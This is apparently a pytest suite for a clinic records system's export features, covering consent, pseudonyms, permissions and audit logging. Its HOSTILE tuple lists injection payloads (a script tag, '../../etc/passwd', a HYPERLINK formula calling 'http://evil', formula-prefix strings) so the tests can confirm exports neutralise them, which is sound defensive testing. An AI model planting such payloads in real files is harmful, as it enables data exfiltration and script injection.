"""Exports hold everything that was asked for and nothing else, and are safe to open, whatever somebody typed."""

from __future__ import annotations

import csv
import io
import json
import stat
from pathlib import Path

import pytest
from clinic import START_S, Visit, add_testers
from hypothesis import given
from hypothesis import strategies as st
from lives import NAME, NOTES, RECORDING, live, small_disk
from sqlalchemy import select

from nktsense.errors import RecordsError
from nktsense.protocol.session.steps import GiveHomework, SetGoal, entry_to_json
from nktsense.records.copies.export_person import PersonExport, export_person
from nktsense.records.copies.export_research import export_research
from nktsense.records.copies.spreadsheet import csv_table, safe_cell
from nktsense.records.models import AuditRow, CopyRow
from nktsense.records.people.clients import Identity, NewClient, add_client
from nktsense.records.people.consent import ConsentKind, give_consent, withdraw_consent
from nktsense.records.sessions.stored import start_session
from nktsense.records.store import Store
from nktsense.records.trail.verify import verify

HOSTILE = (
    "<script>alert(1)</script><img src=file:///etc/passwd>",
    "../../etc/passwd",
    '=HYPERLINK("http://evil"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u202eevil\u202c",
    'a"b,c;d\ne',
    "x" * 19_000,
)


def logged(store: Store) -> list[str]:
    with store.reading() as db:
        return list(db.scalars(select(AuditRow.action).order_by(AuditRow.seq)))


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def read(made: PersonExport, name: str) -> str:
    return (made.folder / name).read_bytes().decode("utf-8")


def test_a_person_gets_all_of_it(store: Store, tmp_path: Path) -> None:
    visit = live(store)
    made = export_person(store, "T1", "c1", tmp_path / "for-c1")
    person = json.loads(read(made, "person.json"))
    (session,) = person["session"]
    assert session["entries"] == [json.loads(entry_to_json(entry)) for entry in visit.session.entries]
    assert person["client"]["mass_kg"] == 70.5
    assert "salt" not in person["client"]
    assert len(person["trial"]) == 6
    assert len(person["signed"]) == 2
    assert [each["kind"] for each in person["consent"]] == ["testing"]
    assert [each["action"] for each in person["access"]] == ["create", "create"]
    assert made.recordings[0].file == f"{RECORDING}.nkt"
    readme = read(made, "README.txt")
    assert f"{RECORDING}.nkt  4096 bytes  sha256 {'ab' * 32}" in readme
    assert {path.name for path in made.folder.iterdir()} == set(made.files)
    assert [float(row["peak_n"]) for row in table(read(made, "trial.csv"))] == [90.0] * 3 + [92.0] * 3


def test_identity_is_in_it_only_when_asked_for_and_then_the_reading_is_told(store: Store, tmp_path: Path) -> None:
    live(store)
    without = export_person(store, "T1", "C1", tmp_path / "without")
    for name in without.files:
        assert NAME not in read(without, name)
        assert NOTES not in read(without, name)
    assert "read_identity" not in logged(store)
    with_it = export_person(store, "T1", "C1", tmp_path / "with", identity=True)
    assert json.loads(read(with_it, "person.json"))["identity"]["name"] == NAME
    assert logged(store)[-2:] == ["read_identity", "export"]
    assert [name for name in with_it.files if name.endswith(".csv") and NAME in read(with_it, name)] == []


def test_another_client_is_not_in_it(store: Store, tmp_path: Path) -> None:
    live(store)
    made = export_person(store, "T1", "C2", tmp_path / "c2", identity=True)
    person = json.loads(read(made, "person.json"))
    assert person["session"] == person["trial"] == person["recording"] == []
    assert person["identity"] == {}


def test_the_records_remember_where_it_went(store: Store, tmp_path: Path) -> None:
    live(store)
    made = export_person(store, "T1", "C1", tmp_path / "out")
    with store.reading() as db:
        (copy,) = db.scalars(select(CopyRow))
        assert (copy.kind, copy.place) == ("export", str(made.folder))
    assert verify(store) == ()


def hostile(store: Store) -> None:
    """A client in whose every text there is something hostile."""
    add_testers(store)
    add_client(store, "T1", NewClient(code="H1"), Identity(name=HOSTILE[0], contact=HOSTILE[2], notes="n" * 19_000))
    visit = Visit.begin("H1", START_S).screened()
    for words in HOSTILE:
        visit.take(GiveHomework(text=words, dose=words, schedule=words), SetGoal(text=words))
        give_consent(store, "T1", "H1", ConsentKind.TESTING, words)
    start_session(store, "T1", visit.closed("nothing tested").session)


def test_hostile_texts_are_kept_and_harmless(file_store: Store, tmp_path: Path) -> None:
    hostile(file_store)
    made = export_person(file_store, "T1", "H1", tmp_path / "h1", identity=True)
    person = json.loads(read(made, "person.json"))
    assert [each["text"] for each in person["homework"]] == list(HOSTILE), "JSON has each to the letter"
    assert sorted(each["words"] for each in person["consent"]) == sorted(HOSTILE)
    for name in made.files:
        if name.endswith(".csv"):
            cells = [cell for row in csv.reader(io.StringIO(read(made, name), newline="")) for cell in row]
            assert [cell for cell in cells if cell.lstrip()[:1] in tuple("=+@") or cell[:1] in tuple("\t\r\0")] == []
    homework = [row["text"] for row in table(read(made, "homework.csv"))]
    assert [text.removeprefix("'") for text in homework] == list(HOSTILE)
    assert "\u202e" not in read(made, "person.json"), "a turn of direction is written as an escape"
    assert set(made.files) == {path.name for path in made.folder.iterdir()}


@pytest.mark.parametrize("value", [-12.5, -3, 0.1, 1e300, -0.0])
def test_a_number_stays_a_number(value: float) -> None:
    text = csv_table(["a"], [[value]])
    assert text == f'"a"\r\n{value!r}\r\n'


@given(st.text(st.characters(codec="utf-8")))
def test_no_text_begins_like_a_formula_and_none_is_lost(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str)
    assert cell in (text, "'" + text)
    assert cell[:1] not in tuple("=+-@\t\r\n\0")
    written = csv_table(["a"], [[text]])
    (_, (back,)) = list(csv.reader(io.StringIO(written, newline="")))
    assert back == cell


def test_yes_no_and_nothing() -> None:
    assert csv_table(["a", "b", "c", "d"], [[True, False, None, ""]]) == '"a","b","c","d"\r\n"yes","no",,""\r\n'


def test_what_is_there_is_not_overwritten(file_store: Store, tmp_path: Path) -> None:
    live(file_store)
    (tmp_path / "there").mkdir()
    before = logged(file_store)
    for place in (tmp_path / "there", tmp_path / "nowhere" / "x", tmp_path / ("x" * 2000), tmp_path / "a\nb"):
        with pytest.raises(RecordsError):
            export_person(file_store, "T1", "C1", place)
    assert logged(file_store) == before
    assert list((tmp_path / "there").iterdir()) == []


def test_files_are_for_their_owner_alone(file_store: Store, tmp_path: Path) -> None:
    live(file_store)
    made = export_person(file_store, "T1", "C1", tmp_path / "out")
    modes = {stat.S_IMODE(path.stat().st_mode) for path in made.folder.iterdir()}
    assert (stat.S_IMODE(made.folder.stat().st_mode), modes) == (0o700, {0o600})


def test_a_full_disk_is_told_and_leaves_nothing(file_store: Store, tmp_path: Path) -> None:
    hostile(file_store)
    folder = tmp_path / "target"
    folder.mkdir()
    with small_disk(file_store, 120_000), pytest.raises(RecordsError, match="no space left"):
        export_person(file_store, "T1", "H1", folder / "out")
    assert list(folder.iterdir()) == []
    assert verify(file_store) == ()


def test_research_has_pseudonyms_and_days_and_nothing_that_names(store: Store, tmp_path: Path) -> None:
    visit = live(store)
    give_consent(store, "T1", "C1", ConsentKind.RESEARCH)
    made = export_research(store, "T1", "back-2026", tmp_path / "a", ["C1", "C2"])
    assert (made.clients, made.left_out) == (2, ())
    text = "".join((made.folder / name).read_text() for name in made.files)
    with store.reading() as db:
        ids = [visit.id, *db.scalars(select(CopyRow.client_id))]
    for hidden in (NAME, NOTES, "C1", "T1", "sim:break", "Release, then", "17000", "2023", RECORDING, *map(str, ids)):
        assert hidden not in text
    tests = table((made.folder / "test.csv").read_text())
    assert [(row["day"], row["muscle"], row["held"]) for row in tests] == [
        ("0", "gluteus_maximus", "0"),
        ("0", "gluteus_maximus", "3"),
    ]
    people = {row["client"]: row["age_years"] for row in table((made.folder / "client.csv").read_text())}
    assert sorted(people.values()) == ["", "43"]
    assert {row["client"] for row in tests} < set(people)
    assert "40 to 49 years, F: 1" in made.small_groups
    assert verify(store) == ()


def test_pseudonyms_are_the_same_in_a_project_and_others_in_another(file_store: Store, tmp_path: Path) -> None:
    live(file_store)
    pseudonyms = [
        table((export_research(file_store, "T1", project, tmp_path / str(n), ["C2"]).folder / "client.csv").read_text())
        for n, project in enumerate(("a", "a", "b"))
    ]
    assert pseudonyms[0] == pseudonyms[1] != pseudonyms[2]


def test_who_did_not_agree_or_not_any_more_is_left_out(file_store: Store, tmp_path: Path) -> None:
    live(file_store)
    assert export_research(file_store, "T1", "p", tmp_path / "a", ["C1", "C2", "c2"]).left_out == ("C1",)
    withdraw_consent(file_store, "T1", "C2", ConsentKind.RESEARCH)
    before = logged(file_store)
    with pytest.raises(RecordsError, match="None of these clients agreed"):
        export_research(file_store, "T1", "p", tmp_path / "b", ["C1", "C2"])
    assert not (tmp_path / "b").exists()
    assert logged(file_store) == before
    for project in ("", "../x", "a b", "x" * 33):
        with pytest.raises(RecordsError, match="no name of a project"):
            export_research(file_store, "T1", project, tmp_path / "c", ["C1"])
